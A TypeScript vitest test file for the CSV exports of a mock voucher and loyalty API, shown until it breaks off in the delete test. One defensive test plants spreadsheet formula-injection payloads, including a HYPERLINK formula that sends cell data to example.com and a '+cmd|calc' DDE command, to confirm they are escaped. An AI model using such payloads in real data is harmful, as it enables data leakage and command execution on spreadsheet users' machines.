import { describe, expect, test } from 'vitest';
import { parseCsv } from '../../../../src/core/csv.js';
import { StateHistory } from '../../../../src/core/history/state-history.js';
import { TrackedState } from '../../../../src/core/history/tracked-state.js';
import { ExportSources } from '../../../../src/areas/platform/exports/source.js';
import { createMockService, fullService } from '../../../../src/service.js';
import { serverHeaders, useMockService } from '../../../support/setup.js';

const mock = useMockService();
const state = () => mock.service.projects.primary.state;
const client = () => mock.serverClient();

const createExport = async (body: Record<string, unknown>) => {
  const { data, error, response } = await client().POST('/v1/exports', { body: body as never });
  if (!data) throw new Error(`export not created (${response.status}): ${JSON.stringify(error)}`);
  return data;
};

const getExport = async (exportId: string) => {
  const { data, error } = await client().GET('/v1/exports/{exportId}', { params: { path: { exportId } } });
  if (!data || typeof data === 'string') throw new Error(`export not read: ${JSON.stringify(error)}`);
  return data;
};

/** Runs every export job, then downloads the file from `result.url` as a browser would: no API keys. */
const finished = async (exportId: string) => {
  await mock.service.scheduler.drain();
  const done = await getExport(exportId);
  expect(done.status).toBe('DONE');
  const url = done.result?.url;
  if (url === undefined) throw new Error('no result.url');
  const response = await fetch(url);
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toBe('text/plain; charset=utf-8');
  const text = await response.text();
  return { url, text, table: parseCsv(text) };
};

const rowsOf = (table: ReturnType<typeof parseCsv>) =>
  table.rows.map((row) => table.columns.map((column) => row.values[column]));

const raw = (path: string, init: RequestInit = {}) =>
  mock.raw(path, {
    ...init,
    headers: serverHeaders(mock.service, {
      'content-type': 'application/json',
      ...(init.headers as Record<string, string> | undefined),
    }),
  });

const errorOf = async (response: Response) => ({
  status: response.status,
  body: (await response.json()) as Record<string, unknown>,
});

describe('exports: vouchers', () => {
  test('default columns are code, voucher_type, value and discount_type, headed by their labels, newest first', async () => {
    const { vouchers } = state();
    vouchers.create({ type: 'DISCOUNT_VOUCHER', discount: { type: 'PERCENT', percent_off: 15 }, code: 'P15' });
    mock.service.clock.advance(1000);
    vouchers.create({ type: 'GIFT_VOUCHER', gift: { amount: 5000 }, code: 'GIFT-1' });
    const created = await createExport({ exported_object: 'voucher' });
    expect(created).toMatchObject({
      object: 'export',
      status: 'SCHEDULED',
      result: null,
      channel: 'API',
      user_id: null,
      exported_object: 'voucher',
      created_at: mock.service.clock.date().toISOString(),
    });
    expect(created.id).toMatch(/^exp_/);
    expect(created.parameters?.fields).toEqual(['code', 'voucher_type', 'value', 'discount_type']);
    const { table } = await finished(created.id);
    // The header holds the columns' labels, as the service's sample voucher file does.
    expect(table.columns).toEqual(['Code', 'Voucher Type', 'Value', 'Discount Type']);
    expect(rowsOf(table)).toEqual([
      ['GIFT-1', 'GIFT_VOUCHER', '5000', ''],
      ['P15', 'DISCOUNT_VOUCHER', '15', 'PERCENT'],
    ]);
  });

  test('chosen columns in the order asked, metadata as JSON, filtered by metadata and active, sorted by code, within one campaign', async () => {
    const { vouchers, campaigns } = state();
    const campaign = campaigns.create({
      name: 'Spring',
      campaign_type: 'DISCOUNT_COUPONS',
      voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 500 } },
    });
    for (const [code, region, active] of [
      ['B-2', 'north', true],
      ['A-1', 'north', true],
      ['C-3', 'south', true],
      ['D-4', 'north', false],
    ] as const) {
      const voucher = campaigns.addVouchers(campaign.id, { code, metadata: { region, note: 'has, comma' } }, 1);
      if (!active && 'code' in voucher) vouchers.setActive(voucher.id, false);
    }
    vouchers.create({
      type: 'DISCOUNT_VOUCHER',
      discount: { type: 'AMOUNT', amount_off: 100 },
      code: 'OUTSIDE',
      metadata: { region: 'north' },
    });
    const created = await createExport({
      exported_object: 'voucher',
      parameters: {
        campaign_id: campaign.id,
        fields: ['id', 'code', 'value', 'campaign', 'active', 'metadata'],
        order: 'code',
        filters: {
          junction: 'and',
          'metadata.region': { conditions: { $is: ['north'] } },
          active: { conditions: { $is: ['true'] } },
        },
      },
    });
    const { table } = await finished(created.id);
    expect(table.columns).toEqual(['ID', 'Code', 'Value', 'Campaign', 'Active', 'Metadata']);
    expect(rowsOf(table).map((row) => row.slice(1))).toEqual([
      ['A-1', '500', 'Spring', 'true', '{"region":"north","note":"has, comma"}'],
      ['B-2', '500', 'Spring', 'true', '{"region":"north","note":"has, comma"}'],
    ]);
    expect(rowsOf(table)[0]?.[0]).toBe(vouchers.get('A-1').id);
  });
  test('the header of the sample file (ID, Code, Voucher Type, Value); other columns by the same rule', async () => {
    state().vouchers.create({ type: 'GIFT_VOUCHER', gift: { amount: 2000 }, code: 'G-1' });
    const created = await createExport({
      exported_object: 'voucher',
      parameters: {
        fields: ['id', 'code', 'voucher_type', 'value', 'campaign_id', 'validation_rules_id', 'is_referral_code'],
      },
    });
    const { text, table } = await finished(created.id);
    expect(text.split('\r\n')[0]).toBe('ID,Code,Voucher Type,Value,Campaign ID,Validation Rules ID,Is Referral Code');
    expect(rowsOf(table)[0]?.slice(1)).toEqual(['G-1', 'GIFT_VOUCHER', '2000', '', '', 'false']);
  });

  test('a labelled file imports back: the voucher import reads the labels as its columns', async () => {
    state().vouchers.create({ type: 'GIFT_VOUCHER', gift: { amount: 2500 }, code: 'ROUND-1' });
    const created = await createExport({
      exported_object: 'voucher',
      parameters: { fields: ['code', 'voucher_type', 'value'] },
    });
    const { text } = await finished(created.id);
    expect(text).toBe('Code,Voucher Type,Value\r\nROUND-1,GIFT_VOUCHER,2500\r\n');
    const form = new FormData();
    form.append('file', new Blob([text.replace('ROUND-1', 'ROUND-2')], { type: 'text/csv' }), 'vouchers.csv');
    const response = await mock.raw('/v1/vouchers/importCSV', {
      method: 'POST',
      headers: serverHeaders(mock.service),
      body: form,
    });
    expect(response.status).toBe(202);
    await mock.service.scheduler.drain();
    expect(state().vouchers.get('ROUND-2')).toMatchObject({ type: 'GIFT_VOUCHER', gift: { amount: 2500 } });
  });

  test("redemption_status filters on the voucher's wallet state when the rows are picked", async () => {
    const { vouchers } = state();
    const day = 24 * 60 * 60 * 1000;
    const now = mock.service.clock.now();
    vouchers.create({ type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 100 }, code: 'ACTIVE-1' });
    vouchers.create({ type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 100 }, code: 'OFF-1' });
    vouchers.setActive('OFF-1', false);
    vouchers.create({
      type: 'DISCOUNT_VOUCHER',
      discount: { type: 'AMOUNT', amount_off: 100 },
      code: 'LATER-1',
      start_date: new Date(now + day).toISOString(),
    });
    vouchers.create({
      type: 'DISCOUNT_VOUCHER',
      discount: { type: 'AMOUNT', amount_off: 100 },
      code: 'SOON-GONE',
      expiration_date: new Date(now + day).toISOString(),
    });
    vouchers.create({
      type: 'DISCOUNT_VOUCHER',
      discount: { type: 'AMOUNT', amount_off: 100 },
      code: 'ONCE-1',
      redemption: { quantity: 1 },
    });
    vouchers.create({ type: 'GIFT_VOUCHER', gift: { amount: 0 }, code: 'EMPTY-1' });
    const redeemed = await client().POST('/v1/redemptions', {
      body: { redeemables: [{ object: 'voucher', id: 'ONCE-1' }], order: { amount: 1000 } },
    });
    expect(redeemed.response.status).toBe(200);
    const exportWith = async (filters: Record<string, unknown>) => {
      const created = await createExport({
        exported_object: 'voucher',
        parameters: { fields: ['code'], order: 'code', filters },
      });
      return rowsOf((await finished(created.id)).table).map(([code]) => code);
    };
    const status = (...values: string[]) => ({ redemption_status: { conditions: { $in: values } } });
    // The export is created now, but its rows are picked when the job runs: two days later, SOON-GONE has expired.
    mock.service.clock.advance(2 * day);
    expect(await exportWith(status('ACTIVE'))).toEqual(['ACTIVE-1', 'LATER-1']);
    expect(await exportWith(status('DISABLED'))).toEqual(['OFF-1']);
    expect(await exportWith(status('EXPIRED'))).toEqual(['SOON-GONE']);
    expect(await exportWith(status('USED', 'NO_BALANCE'))).toEqual(['EMPTY-1', 'ONCE-1']);
    expect(
      await exportWith({
        redemption_status: { conditions: { $is_not: ['ACTIVE'] } },
        junction: 'and',
        code: { conditions: { $starts_with: ['O'] } },
      }),
    ).toEqual(['OFF-1', 'ONCE-1']);
  });

  test('published_for_customer_id filters on the customer a voucher was published to', async () => {
    const { campaigns } = state();
    campaigns.create({
      name: 'Spring',
      campaign_type: 'DISCOUNT_COUPONS',
      vouchers_count: 3,
      voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 500 } },
    });
    await mock.service.scheduler.drain();
    const publish = (sourceId: string) =>
      client().POST('/v1/publications', {
        body: { campaign: { name: 'Spring' }, customer: { source_id: sourceId } } as never,
        params: { query: {} },
      });
    const toAna = (await publish('ana')).data?.voucher?.code;
    const toBen = (await publish('ben')).data?.voucher?.code;
    const ana = state().customers.get('ana').id;
    const exportWith = async (filters: Record<string, unknown>) => {
      const created = await createExport({
        exported_object: 'voucher',
        parameters: { fields: ['code', 'customer_id'], filters },
      });
      return rowsOf((await finished(created.id)).table);
    };
    const ben = state().customers.get('ben').id;
    expect(await exportWith({ published_for_customer_id: { conditions: { $is: [ana] } } })).toEqual([[toAna, ana]]);
    expect(await exportWith({ published_for_customer_id: { conditions: { $in: [ana, ben] } } })).toEqual([
      [toBen, ben],
      [toAna, ana],
    ]);
    // The third code, never published, has no such customer.
    expect(await exportWith({ published_for_customer_id: { conditions: { $has_value: [] } } })).toHaveLength(2);
  });
});

describe('exports: spreadsheet formulas (decision 0034)', () => {
  test('cells that would open as formulas are written as text; numbers, negative ones included, stay numbers', async () => {
    const { orders, customers } = state();
    customers.upsert({
      source_id: '-2+3',
      name: '=HYPERLINK("http://example.com/?"&A1,"open")',
      description: '@SUM(1+1)',
      address: { city: 'a;=1+1', line_1: '\t=1', line_2: '-100' },
    });
    const people = await createExport({
      exported_object: 'customer',
      parameters: { fields: ['source_id', 'name', 'description', 'address_city', 'address_line_1', 'address_line_2'] },
    });
    const { text, table } = await finished(people.id);
    expect(text.split('\r\n')[1]).toBe(
      '\'-2+3,"\'=HYPERLINK(""http://example.com/?""&A1,""open"")",\'@SUM(1+1),"a;=1+1",\'\t=1,-100',
    );
    expect(rowsOf(table)[0]).toEqual([
      "'-2+3",
      '\'=HYPERLINK("http://example.com/?"&A1,"open")',
      "'@SUM(1+1)",
      'a;=1+1',
      "'\t=1",
      '-100',
    ]);

    orders.upsert({ source_id: 'o-1', status: 'PAID', metadata: { payment_mean: -100 } });
    orders.upsert({ source_id: 'o-2', status: 'PAID', metadata: { payment_mean: '+cmd|calc' } });
    const paid = await createExport({
      exported_object: 'order',
      parameters: { fields: ['source_id', 'metadata.payment_mean'], order: 'created_at' },
    });
    expect((await finished(paid.id)).text).toBe("source_id,metadata.payment_mean\r\no-1,-100\r\no-2,'+cmd|calc\r\n");
  });
});

describe('exports: customers', () => {
  test('default columns are name and source_id; a name with a comma and quotes is quoted as RFC 4180 says', async () => {
    const { customers } = state();
    customers.upsert({ source_id: 'ana', name: 'Silva, Ana "Annie"' });
    mock.service.clock.advance(1000);
    customers.upsert({ source_id: 'ben', name: 'Ben' });
    const created = await createExport({ exported_object: 'customer' });
    const { text, table } = await finished(created.id);
    expect(text).toBe('name,source_id\r\nBen,ben\r\n"Silva, Ana ""Annie""",ana\r\n');
    expect(rowsOf(table)).toEqual([
      ['Ben', 'ben'],
      ['Silva, Ana "Annie"', 'ana'],
    ]);
  });

  test('chosen columns with the address and order summary, filtered by city, sorted by source_id descending', async () => {
    const { customers, orders } = state();
    customers.upsert({ source_id: 'ana', email: 'ana@example.com', address: { city: 'Porto', country: 'PT' } });
    customers.upsert({ source_id: 'ben', email: 'ben@example.com', address: { city: 'Lisbon', country: 'PT' } });
    customers.upsert({ source_id: 'cho', email: 'cho@example.com', address: { city: 'Porto', country: 'PT' } });
    orders.upsert({ source_id: 'o-1', customer: 'ana', amount: 2500, status: 'PAID' });
    const created = await createExport({
      exported_object: 'customer',
      parameters: {
        fields: ['source_id', 'email', 'address_city', 'orders_total_amount'],
        order: '-source_id',
        filters: { city: { conditions: { $is: ['Porto'] } } },
      },
    });
    const { table } = await finished(created.id);
    expect(rowsOf(table)).toEqual([
      ['cho', 'cho@example.com', 'Porto', '0'],
      ['ana', 'ana@example.com', 'Porto', '2500'],
    ]);
  });
});

describe('exports: orders (POST /v1/orders/export)', () => {
  test('default columns are id, source_id and status', async () => {
    const { orders } = state();
    const order = orders.upsert({ source_id: 'o-1', amount: 1000, status: 'PAID' }).order;
    const { data } = await client().POST('/v1/orders/export', { body: {} });
    expect(data).toMatchObject({
      object: 'export',
      status: 'SCHEDULED',
      exported_object: 'order',
      result: null,
      parameters: { fields: ['id', 'source_id', 'status'] },
    });
    const { table } = await finished(data?.id ?? '');
    expect(rowsOf(table)).toEqual([[order.id, 'o-1', 'PAID']]);
  });

  test('chosen columns, a status filter and the oldest first', async () => {
    const { orders } = state();
    for (const [source_id, status, amount] of [
      ['o-1', 'PAID', 1000],
      ['o-2', 'CREATED', 2000],
      ['o-3', 'PAID', 3000],
    ] as const) {
      orders.upsert({ source_id, status, amount, metadata: { payment_mean: 'card' } });
      mock.service.clock.advance(1000);
    }
    const { data } = await client().POST('/v1/orders/export', {
      body: {
        parameters: {
          fields: ['source_id', 'amount', 'metadata.payment_mean'],
          order: 'created_at',
          filters: { junction: 'and', status: { conditions: { $in: ['PAID'] } } },
        },
      },
    });
    const { table } = await finished(data?.id ?? '');
    expect(table.columns).toEqual(['source_id', 'amount', 'metadata.payment_mean']);
    expect(rowsOf(table)).toEqual([
      ['o-1', '1000', 'card'],
      ['o-3', '3000', 'card'],
    ]);
  });
});

describe('exports: card transactions', () => {
  const giftCards = () => {
    const { vouchers, campaigns } = state();
    const campaign = campaigns.create({
      name: 'Gifts',
      campaign_type: 'GIFT_VOUCHERS',
      voucher: { type: 'GIFT_VOUCHER', gift: { amount: 1000 } },
    });
    campaigns.addVouchers(campaign.id, { code: 'G-1' }, 1);
    campaigns.addVouchers(campaign.id, { code: 'G-2' }, 1);
    vouchers.create({ type: 'GIFT_VOUCHER', gift: { amount: 1000 }, code: 'LONE' });
    vouchers.transactions.changeBalance('G-1', { amount: 500, reason: 'top-up' });
    mock.service.clock.advance(1000);
    vouchers.transactions.changeBalance('G-2', { amount: 700, reason: 'birthday' });
    mock.service.clock.advance(1000);
    vouchers.transactions.changeBalance('G-1', { amount: 300, reason: 'again' });
    vouchers.transactions.changeBalance('LONE', { amount: 100 });
    return campaign;
  };

  test('of one card (POST /v1/vouchers/{code}/transactions/export): default columns, newest first', async () => {
    giftCards();
    const { data } = await client().POST('/v1/vouchers/{code}/transactions/export', {
      params: { path: { code: 'G-1' } },
      body: {},
    });
    expect(data).toMatchObject({
      status: 'SCHEDULED',
      exported_object: 'voucher_transactions',
      parameters: { filters: { voucher_id: { conditions: { $in: [state().vouchers.get('G-1').id] } } } },
    });
    const { table } = await finished(data?.id ?? '');
    expect(table.columns).toEqual(['id', 'type', 'source_id', 'reason', 'source', 'balance', 'amount', 'created_at']);
    expect(rowsOf(table).map((row) => [row[1], row[3], row[5], row[6]])).toEqual([
      ['CREDITS_ADDITION', 'again', '1800', '300'],
      ['CREDITS_ADDITION', 'top-up', '1500', '500'],
    ]);
  });

  test('of a campaign (POST /v1/campaigns/{campaignId}/transactions/export): chosen columns, oldest first', async () => {
    const campaign = giftCards();
    const { vouchers } = state();
    const { data } = await client().POST('/v1/campaigns/{campaignId}/transactions/export', {
      params: { path: { campaignId: campaign.id } },
      body: { parameters: { fields: ['voucher_id', 'amount', 'reason'], order: 'created_at' } },
    });
    expect(data?.parameters.filters.campaign_id.conditions.$in).toEqual([campaign.id]);
    const { table } = await finished(data?.id ?? '');
    expect(rowsOf(table)).toEqual([
      [vouchers.get('G-1').id, '500', 'top-up'],
      [vouchers.get('G-2').id, '700', 'birthday'],
      [vouchers.get('G-1').id, '300', 'again'],
    ]);
  });

  test('of the project (POST /v1/exports, voucher_transactions) with a created_at filter', async () => {
    giftCards();
    const created = await createExport({
      exported_object: 'voucher_transactions',
      parameters: {
        fields: ['reason', 'amount'],
        order: 'created_at',
        filters: { created_at: { conditions: { $after: ['2026-01-01T00:00:00.500Z'] } } },
      },
    });
    const { table } = await finished(created.id);
    expect(rowsOf(table)).toEqual([
      ['birthday', '700'],
      ['again', '300'],
      ['', '100'],
    ]);
  });

  test('an unknown card or campaign answers 404', async () => {
    const card = await client().POST('/v1/vouchers/{code}/transactions/export', {
      params: { path: { code: 'NOPE' } },
      body: {},
    });
    expect(card.response.status).toBe(404);
    expect(card.error).toMatchObject({ key: 'not_found', resource_type: 'voucher', resource_id: 'NOPE' });
    const campaign = await client().POST('/v1/campaigns/{campaignId}/transactions/export', {
      params: { path: { campaignId: 'camp_nope' } },
      body: {},
    });
    expect(campaign.response.status).toBe(404);
    expect(campaign.error).toMatchObject({ key: 'not_found', resource_type: 'campaign' });
  });
});

describe('exports: publications', () => {
  test('one row per published code with the default columns, filtered by campaign, newest first; a chosen order and columns', async () => {
    const { campaigns } = state();
    campaigns.create({
      name: 'Spring',
      campaign_type: 'DISCOUNT_COUPONS',
      vouchers_count: 3,
      voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 500 } },
    });
    campaigns.create({
      name: 'Other',
      campaign_type: 'DISCOUNT_COUPONS',
      vouchers_count: 1,
      voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 100 } },
    });
    await mock.service.scheduler.drain();
    const publish = (body: Record<string, unknown>) =>
      client().POST('/v1/publications', { body: body as never, params: { query: {} } });
    const first = await publish({
      campaign: { name: 'Spring', count: 2 },
      customer: { source_id: 'ana' },
      channel: 'Email',
    });
    mock.service.clock.advance(1000);
    await publish({ campaign: { name: 'Other' }, customer: { source_id: 'ben' } });
    mock.service.clock.advance(1000);
    const last = await publish({ campaign: { name: 'Spring' }, customer: { source_id: 'ben' } });
    const anaCodes = first.data && 'vouchers' in first.data ? first.data.vouchers : [];
    const benCode = last.data?.voucher?.code;
    const customerId = (sourceId: string) => state().customers.get(sourceId).id;

    const byCampaign = await createExport({
      exported_object: 'publication',
      parameters: { filters: { junction: 'and', campaign: { conditions: { $is: ['Spring'] } } } },
    });
    const { table } = await finished(byCampaign.id);
    expect(table.columns).toEqual(['voucher_code', 'customer_id', 'date', 'channel']);
    expect(rowsOf(table).map(([code, customer, , channel]) => [code, customer, channel])).toEqual([
      [benCode, customerId('ben'), 'API'],
      // Newest first is the exact reverse of oldest first, the codes of one publication included.
      ...[...anaCodes].reverse().map((code) => [code, customerId('ana'), 'Email']),
    ]);

    const chosen = await createExport({
      exported_object: 'publication',
      parameters: { fields: ['customer_source_id', 'campaign'], order: 'created_at' },
    });
    expect(rowsOf((await finished(chosen.id)).table)).toEqual([
      ['ana', 'Spring'],
      ['ana', 'Spring'],
      ['ben', 'Other'],
      ['ben', 'Spring'],
    ]);
  });
});

describe('exports: redemptions', () => {
  test('one row per redemption, failure and rollback with the default columns, newest first; chosen columns, filters and order', async () => {
    const { vouchers, campaigns, customers } = state();
    const spring = campaigns.create({
      name: 'Spring',
      campaign_type: 'DISCOUNT_COUPONS',
      voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 500 }, redemption: { quantity: 1 } },
    });
    vouchers.create({ code: 'SPRING-1', campaign: spring.name } as never);
    vouchers.create({ code: 'GIFT-1', type: 'GIFT_VOUCHER', gift: { amount: 5000 } } as never);
    customers.upsert({ source_id: 'ana', name: 'Ana' });
    const redeem = (body: Record<string, unknown>) => client().POST('/v1/redemptions', { body: body as never });
    const first = await redeem({
      redeemables: [{ object: 'voucher', id: 'SPRING-1' }],
      order: { id: undefined, amount: 2000 },
      customer: { source_id: 'ana' },
      metadata: { shop: 'web' },
    });
    mock.service.clock.advance(1000);
    const failed = await redeem({
      redeemables: [{ object: 'voucher', id: 'SPRING-1' }],
      order: { amount: 2000 },
      customer: { source_id: 'ana' },
    });
    expect(failed.response.status).toBe(400);
    mock.service.clock.advance(1000);
    const gift = await redeem({
      redeemables: [{ object: 'voucher', id: 'GIFT-1', gift: { credits: 1500 } }],
      order: { amount: 1500 },
    });
    mock.service.clock.advance(1000);
    const giftRedemption = gift.data?.redemptions?.[0]?.id ?? '';
    const rollback = await client().POST('/v1/redemptions/{redemptionId}/rollback', {
      params: { path: { redemptionId: giftRedemption }, query: {} },
      body: {},
    });
    const springRedemption = first.data?.redemptions?.[0];
    const ana = customers.get('ana');

    const all = await createExport({ exported_object: 'redemption' });
    const { table } = await finished(all.id);
    expect(table.columns).toEqual(['id', 'object', 'voucher_code', 'customer_id', 'date', 'result']);
    const rows = rowsOf(table);
    // Newest first: the rollback, the gift card's redemption and its parent, the failure, Spring's redemption and its parent.
    expect(rows[0]).toEqual([rollback.data?.id, 'redemption_rollback', 'GIFT-1', '', expect.any(String), 'SUCCESS']);
    expect(rows.filter((row) => row[5] === 'FAILURE')).toEqual([
      [expect.stringMatching(/^rf_/), 'redemption', 'SPRING-1', ana.id, expect.any(String), 'FAILURE'],
    ]);
    expect(rows).toContainEqual([
      springRedemption?.id,
      'redemption',
      'SPRING-1',
      ana.id,
      springRedemption?.date,
      'SUCCESS',
    ]);

    const chosen = await createExport({
      exported_object: 'redemption',
      parameters: {
        fields: [
          'voucher_code',
          'campaign',
          'customer_source_id',
          'customer_name',
          'order_amount',
          'result',
          'failure_code',
          'metadata',
        ],
        order: 'created_at',
        filters: { junction: 'and', campaign: { conditions: { $is: ['Spring'] } } },
      },
    });
    expect(rowsOf((await finished(chosen.id)).table)).toEqual([
      ['SPRING-1', 'Spring', 'ana', 'Ana', '2000', 'SUCCESS', '', '{"shop":"web"}'],
      // A failed redemption keeps no order; one that was sent no metadata has none.
      ['SPRING-1', 'Spring', 'ana', 'Ana', '', 'FAILURE', 'quantity_exceeded', ''],
    ]);

    const giftRows = await createExport({
      exported_object: 'redemption',
      parameters: {
        fields: ['object', 'gift_amount'],
        order: 'created_at',
        filters: { junction: 'and', voucher: { conditions: { $is: ['GIFT-1'] } } },
      },
    });
    expect(rowsOf((await finished(giftRows.id)).table)).toEqual([
      ['redemption', '1500'],
      ['redemption_rollback', '-1500'],
    ]);
  });
});

describe('exports: API log', () => {
  test("one row per request the journal kept for the project, newest first: server, client and refused requests, not other projects'", async () => {
    const { keys } = mock.service.projects.primary;
    await client().categories.create({ name: 'Seasonal', hierarchy: 1 });
    mock.service.clock.advance(1000);
    await client().GET('/v1/categories/{categoryId}', { params: { path: { categoryId: 'cat_missing' } } });
    mock.service.clock.advance(1000);
    const browser = await mock.raw('/client/v1/qualifications', {
      method: 'POST',
      headers: {
        'X-Client-Application-Id': keys.clientAppId,
        'X-Client-Token': keys.clientToken,
        origin: 'https://shop.example.com',
        'content-type': 'application/json',
      },
      body: JSON.stringify({ order: { amount: 1000 } }),
    });
    expect(browser.status).toBe(200);
    const other = mock.service.projects.create({ name: 'Other' });
    await mock.raw('/v1/categories', { headers: { 'X-App-Id': other.keys.appId, 'X-App-Token': other.keys.appToken } });
    mock.service.clock.advance(1000);

    const all = await createExport({ exported_object: 'api_log' });
    const { table } = await finished(all.id);
    expect(table.columns).toEqual(['id', 'created_at', 'status', 'channel', 'method', 'endpoint']);
    // The export's own request is the newest; the other project's request is not there.
    expect(rowsOf(table).map(([, , status, channel, method, endpoint]) => [status, channel, method, endpoint])).toEqual(
      [
        ['200', 'API', 'POST', '/v1/exports'],
        ['200', 'CLIENT_API', 'POST', '/client/v1/qualifications'],
        ['404', 'API', 'GET', '/v1/categories/{categoryId}'],
        ['200', 'API', 'POST', '/v1/categories'],
      ],
    );

    const chosen = await createExport({
      exported_object: 'api_log',
      parameters: {
        fields: ['request_id', 'url', 'app_id', 'client_app_id', 'user_email', 'request_body', 'response_body'],
        order: 'created_at',
        filters: { junction: 'and', status: { conditions: { $is: [404] } } },
      },
    });
    const [missing] = rowsOf((await finished(chosen.id)).table);
    expect(missing).toEqual([
      expect.stringMatching(/^v-/),
      `${mock.service.baseUrl}/v1/categories/cat_missing`,
      keys.appId,
      '',
      '',
      '',
      expect.stringContaining('"key":"not_found"'),
    ]);

    const fromBrowsers = await createExport({
      exported_object: 'api_log',
      parameters: {
        fields: ['client_app_id', 'request_body'],
        filters: { junction: 'and', channel: { conditions: { $in: ['CLIENT_API'] } } },
      },
    });
    // The body as the mock read it, with the defaults the spec fills in.
    expect(rowsOf((await finished(fromBrowsers.id)).table)).toEqual([
      [keys.clientAppId, '{"order":{"amount":1000},"scenario":"ALL"}'],
    ]);
    const durations = await createExport({ exported_object: 'api_log', parameters: { fields: ['request_duration'] } });
    for (const [duration] of rowsOf((await finished(durations.id)).table))
      expect(Number(duration)).toBeGreaterThanOrEqual(0);
  });
});

describe('exports: the job', () => {
  test('SCHEDULED when created, IN_PROGRESS while portions remain, then DONE with result.url', async () => {
    const { customers } = state();
    // A portion writes ten times the bulk job portion (100): 1,500 rows take two portions.
    for (let index = 0; index < 1500; index += 1) customers.upsert({ source_id: `c-${index}` }, { silent: true });
    const created = await createExport({ exported_object: 'customer', parameters: { fields: ['source_id'] } });
    expect((await getExport(created.id)).status).toBe('SCHEDULED');
    await mock.service.scheduler.runDue();
    const running = await getExport(created.id);
    expect(running).toMatchObject({ status: 'IN_PROGRESS', result: null });
    const { table, url } = await finished(created.id);
    expect(table.rows).toHaveLength(1500);
    expect(url).toMatch(new RegExp(`^${mock.service.baseUrl}/v1/exports/${created.id}\\?token=[0-9a-f]{32}$`));
  });

  test('a source that fails ends the export ERROR without a file; the registration of a source is one line', async () => {
    const { exports } = state();
    exports.sources.register('api_log', {
      rows: () => {
        throw new Error('the log is offline');
      },
      columns: { id: () => 'x' },
      defaultFields: ['id'],
      filterFields: [],
    });
    const created = await createExport({ exported_object: 'api_log' });
    await mock.service.scheduler.drain();
    expect(await getExport(created.id)).toMatchObject({ status: 'ERROR', result: null });
  });
});

describe('exports: download', () => {
  const done = async () => {
    state().customers.upsert({ source_id: 'ana', name: 'Ana' });
    const created = await createExport({ exported_object: 'customer' });
    const { url } = await finished(created.id);
    return { id: created.id, url: new URL(url) };
  };

  test('the file is served at result.url without API keys, and with them; HEAD answers without a body', async () => {
    const { url } = await done();
    const plain = await fetch(url);
    expect(plain.headers.get('content-disposition')).toMatch(/^attachment; filename="exp_[0-9a-f]+\.csv"$/);
    expect(await plain.text()).toBe('name,source_id\r\nAna,ana\r\n');
    const keyed = await fetch(url, { headers: serverHeaders(mock.service) });
    expect(await keyed.text()).toBe('name,source_id\r\nAna,ana\r\n');
    const head = await fetch(url, { method: 'HEAD' });
    expect(head.status).toBe(200);
    expect(await head.text()).toBe('');
  });

  test('a wrong or empty token answers 401, the token of another export too', async () => {
    const first = await done();
    const second = await done();
    for (const token of ['0'.repeat(32), '', second.url.searchParams.get('token') ?? '']) {
      const url = new URL(first.url);
      url.searchParams.set('token', token);
      const { status, body } = await errorOf(await fetch(url));
      expect(status).toBe(401);
      expect(body).toMatchObject({ code: 401, key: 'unauthorized', message: 'Unauthorized' });
    }
  });

  test('a missing token is the API read, which needs keys (401 without them)', async () => {
    const { url } = await done();
    url.search = '';
    expect((await errorOf(await fetch(url))).body).toMatchObject({ code: 401, key: 'unauthorized' });
  });

  test('an unknown export with a token answers 404, as does an export of another project', async () => {
    const { url, id } = await done();
    const unknown = new URL(url);
    unknown.pathname = '/v1/exports/exp_0000000000000000aa';
    expect((await errorOf(await fetch(unknown))).body).toMatchObject({
      code: 404,
      key: 'not_found',
      resource_type: 'export',
    });
    const other = mock.service.projects.create({ name: 'Other' });
    const { status } = await errorOf(
      await fetch(`${mock.service.baseUrl}/v1/exports/${id}`, {
        headers: { 'X-App-Id': other.keys.appId, 'X-App-Token': other.keys.appToken },
      }),
    );
    expect(status).toBe(404);
  });

  test('under a base URL with a path, result.url keeps the path and the download answers there', async () => {
    const service = fullService(
      createMockService({
        baseUrl: 'https://mock.example/api/',
        clock: { frozenAt: '2026-01-01T00:00:00.000Z' },
      }),
    );
    const { exports, customers } = service.projects.primary.state;
    customers.upsert({ source_id: 'ana' });
    const created = exports.create('customer', { fields: ['source_id'] });
    await service.scheduler.drain();
    const url = exports.present(exports.get(created.id), service.baseUrl).result?.url ?? '';
    expect(url).toMatch(new RegExp(`^https://mock\\.example/api/v1/exports/${created.id}\\?token=`));
    expect(await (await service.handle(new Request(url))).text()).toBe('source_id\r\nana\r\n');
  });
});

describe('exports: list and delete', () => {
  test('newest first by default, paged with limit and page, total counts every export; order by created_at and status', async () => {
    state().customers.upsert({ source_id: 'ana' });
    const ids: string[] = [];
    for (let index = 0; index < 3; index += 1) {
      ids.push((await createExport({ exported_object: 'customer' })).id);
      mock.service.clock.advance(1000);
    }
    await mock.service.scheduler.drain();
    const fourth = await createExport({ exported_object: 'customer' });
    const first = await client().GET('/v1/exports', { params: { query: { limit: 2 } } });
    expect(first.data).toMatchObject({ object: 'list', data_ref: 'exports', total: 4 });
    expect(first.data?.exports.map((item) => item.id)).toEqual([fourth.id, ids[2]]);
    const second = await client().GET('/v1/exports', { params: { query: { limit: 2, page: 2 } } });
    expect(second.data?.exports.map((item) => item.id)).toEqual([ids[1], ids[0]]);
    const ascending = await client().GET('/v1/exports', { params: { query: { order: 'created_at' } } });
    expect(ascending.data?.exports.map((item) => item.id)).toEqual([...ids, fourth.id]);
    const byStatus = await client().GET('/v1/exports', { params: { query: { order: 'status' } } });
    expect(byStatus.data?.exports.map((item) => item.status)).toEqual(['DONE', 'DONE', 'DONE', 'SCHEDULED']);
    expect(second.data?.exports[0]?.result?.url).toContain(`/v1/exports/${ids[1]}?token=`);
  });

  test('delete answers 204; the export is gone from get, list and its download link', async () => {
    state().customers.upsert({ source_id: 'ana' });
    const created = await createExport({ exported_object: 'customer' });
    const { url } = await finished(created.id);
